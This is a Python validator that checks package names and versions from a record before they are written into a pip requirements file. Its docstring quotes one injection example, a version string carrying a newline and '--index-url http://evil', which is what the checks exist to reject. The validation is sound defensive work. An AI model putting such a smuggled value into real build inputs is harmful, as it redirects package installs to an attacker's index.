"""Checks on the package names and versions a version record carries (``environment.packages``).

Those strings end up as lines of a pip requirements file when an image is built. A record comes
from a commit, so ``"2.4.6\\n--index-url http://evil"`` must never reach pip: names must be PEP 508
names and versions PEP 440 versions, with no white space anywhere.
"""

from __future__ import annotations

import re
from typing import Any

from packaging.version import InvalidVersion, Version

PACKAGE_NAME = re.compile(r"^([A-Z0-9]|[A-Z0-9][A-Z0-9._-]*[A-Z0-9])$", re.IGNORECASE)
"""A distribution name as PEP 508 allows it."""
MAX_SHOWN = 40


def pin_problem(name: Any, version: Any) -> str | None:
    """Why ``name`` at ``version`` (None: unpinned) cannot be a requirement, or None when it can."""
    if not isinstance(name, str) or not PACKAGE_NAME.fullmatch(name):
        return f"{_shown(name)} is not a valid package name (PEP 508)"
    if version is None:
        return None
    text = str(version) if isinstance(version, str | int | float) and not isinstance(version, bool) else None
    if text is None or any(char.isspace() for char in text) or not _is_version(text):
        return f"package {name}: {_shown(version)} is not a valid version (PEP 440)"
    return None


def listed_pins(packages: Any) -> list[tuple[Any, Any]]:
    """``environment.packages`` as (name, version) pairs: a mapping, or a list of ``name==version``."""
    if isinstance(packages, dict):
        return list(packages.items())
    if isinstance(packages, list):
        return [_split(item) for item in packages]
    return [] if packages is None else [(packages, None)]


def _split(item: Any) -> tuple[Any, Any]:
    if not isinstance(item, str) or "==" not in item:
        return item, None
    name, _, version = item.partition("==")
    return name, version


def _is_version(text: str) -> bool:
    try:
        Version(text)
    except InvalidVersion:
        return False
    return True


def _shown(value: Any) -> str:
    text = str(value)
    return repr(text if len(text) <= MAX_SHOWN else text[:MAX_SHOWN] + "...")
